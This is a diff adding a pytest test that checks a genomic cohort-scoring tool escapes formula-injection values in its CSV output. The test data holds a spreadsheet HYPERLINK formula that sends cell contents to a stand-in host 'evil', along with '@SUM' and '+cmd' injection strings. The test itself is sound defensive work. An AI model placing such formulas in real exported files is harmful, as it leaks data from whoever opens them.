@@ -142,3 +142,20 @@ def test_parquet_bomb_is_refused(genomic: Bundle, tmp_path: Path) -> None:
     assert path.stat().st_size < 2 << 20
     with pytest.raises(PrecimedInputError, match=r"text cells of 300 rows expand to 314,5\d\d,\d\d\d bytes"):
         score_cohort(genomic, path, keep=["note"])
+
+
+def test_csv_output_is_formula_safe(genomic: Bundle, genomic_cohort: pd.DataFrame, tmp_path: Path) -> None:
+    import csv
+
+    frame = genomic_cohort.copy()
+    frame.loc[0, "site"] = "=HYPERLINK(\"http://evil/?\"&A1)"
+    frame.loc[1, "site"] = "@SUM(1)"
+    frame.loc[2, "outcome"] = "+cmd"
+    dst = tmp_path / "scores.csv"
+    score_cohort(genomic, frame.to_csv(index=False).encode(), name="c.csv", output=dst,
+                 chunk_rows=10, keep=["outcome", "site"])
+    rows = list(csv.DictReader(dst.open(encoding="utf-8", newline="")))
+    assert len(rows) == 48 and [int(r["row"]) for r in rows] == list(range(48))
+    assert rows[0]["site"] == "'=HYPERLINK(\"http://evil/?\"&A1)" and rows[1]["site"] == "'@SUM(1)"
+    assert rows[2]["outcome"] == "'+cmd"
+    assert float(rows[0]["P(metastasis)"]) >= 0 and rows[3]["error"].startswith("'size' is 'huge'")
